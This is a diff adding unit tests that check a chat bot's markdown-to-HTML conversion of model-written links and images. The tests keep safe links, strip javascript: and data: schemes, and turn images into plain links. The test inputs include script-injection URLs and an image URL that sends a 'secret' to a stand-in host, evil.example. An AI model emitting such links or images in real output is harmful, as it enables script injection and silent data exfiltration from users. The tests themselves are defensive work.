@@ -190,4 +190,21 @@ describe("editContent", () => {
     expect(content).not.toHaveProperty("formatted_body");
     expect(content["m.new_content"]).not.toHaveProperty("formatted_body");
   });
+
+  describe("links and images from the model", () => {
+    it("keeps safe links and drops unsafe schemes to their text", () => {
+      expect(markdownToHtml("[docs](https://example.org/a?b=1)")).toBe(
+        '<p><a href="https://example.org/a?b=1">docs</a></p>',
+      );
+      expect(markdownToHtml("[click](javascript:alert(1))")).toBe("<p>click</p>");
+      expect(markdownToHtml("[x](data:text/html,<script>)")).not.toContain("href");
+    });
+
+    it("never embeds an image: a safe one becomes a link, an unsafe one its alt text", () => {
+      const html = markdownToHtml("![chart](https://evil.example/collect?q=secret)");
+      expect(html).not.toContain("<img");
+      expect(html).toBe('<p><a href="https://evil.example/collect?q=secret">chart</a></p>');
+      expect(markdownToHtml("![alt](data:image/png;base64,AAAA)")).toBe("<p>alt</p>");
+    });
+  });
 });
